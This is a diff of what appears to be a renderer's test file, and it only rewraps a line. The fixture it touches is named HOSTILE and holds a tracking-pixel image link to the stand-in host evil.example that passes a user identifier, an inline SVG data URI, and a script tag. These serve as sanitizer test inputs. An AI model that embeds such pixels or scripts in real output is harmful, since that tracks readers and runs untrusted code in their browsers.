@@ -38,7 +38,8 @@ xychart-beta
     bar [20, 60, 80, 40]
 ```
 """
-HOSTILE = """Look: ![a tracker](https://evil.example/pixel.png?who=ada) and ![inline](data:image/svg+xml;base64,PHN2Zy8+).
+HOSTILE = """Look: ![a tracker](https://evil.example/pixel.png?who=ada)
+and ![inline](data:image/svg+xml;base64,PHN2Zy8+).
 
 <script>window.pwned = "script"</script>
 
